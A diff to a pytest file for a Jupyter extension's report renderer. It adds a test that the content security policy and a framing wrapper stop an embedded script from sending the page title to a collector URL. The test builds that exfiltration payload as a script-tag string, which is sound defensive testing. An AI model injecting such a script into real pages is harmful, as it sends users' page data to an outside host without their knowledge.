@@ -7,6 +7,7 @@ from pathlib import Path
 import pytest
 
 from jupyter_ext.reports import csp
+from jupyter_ext.reports.frame import framed
 from jupyter_ext.reports.service import ReportRenderer
 
 from .conftest import Browser, code, display, markdown
@@ -226,6 +227,24 @@ def test_the_interactive_report_runs_scripts_but_reaches_nothing(
     assert "<title>interactive</title>" in dom
     assert "isn’t loaded from" in dom
     assert browser.connections == []
+
+
+def test_a_script_of_the_interactive_report_cannot_leave_with_what_it_read(
+    browser: Browser, written: Callable[..., Path], renderer: ReportRenderer
+) -> None:
+    url = browser.collector_url
+    leave = f"<script>location = '{url}/leave?' + document.title</script>"
+    page = renderer.html(written(code("", display(text_html=leave))), interactive=True)
+    bare = page.read_bytes()
+    whole = b"".join(framed([bare[:1000], bare[1000:]], 'A "report" & more'))
+
+    dom = browser.dom(whole, csp.interactive_headers())
+
+    assert '<title>A "report" &amp; more</title>' in dom
+    # a connection is prepared before the policy is asked; nothing is sent on it
+    assert [each for each in browser.connections if each != "a bare connection"] == []
+    browser.dom(bare, csp.interactive_headers())
+    assert "GET /leave?analysis HTTP/1.1" in browser.connections  # without the frame
 
 
 def test_formulas_and_pictures_are_there_with_the_network_off(
